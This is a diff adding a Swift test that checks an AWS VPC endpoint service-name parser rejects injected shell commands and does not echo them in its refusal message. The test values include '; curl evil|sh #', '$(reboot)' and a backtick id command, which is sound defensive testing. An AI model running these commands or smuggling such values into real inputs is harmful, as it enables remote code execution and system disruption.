@@ -144,6 +144,19 @@ import Text
     #expect(readings.first?.notes.contains { $0.hasPrefix(vpce) && $0.contains("--endpoint") } == true)
   }
 
+  @Test func whatIsNoServiceStandsInNoCommand() {
+    for end in ["; curl evil|sh #", "$(reboot)", "`id`"] {
+      let service = "com.amazonaws.vpce.us-east-1.vpce-svc-0\(end)"
+      for text in [
+        "{\"Service name\": \"\(service)\"}", service, "Service: \(service)",
+        form("", "").replacing(serviceName, with: service),
+      ] {
+        let said = refusal { _ = try read(text) }
+        #expect(!said.isEmpty && !said.contains(end), "\(said)")
+      }
+    }
+  }
+
   @Test func trap07PlaceholdersAreRefused() {
     #expect(refusal { _ = try read("your-org.corp.example") }.contains("still holds the placeholder"))
   }
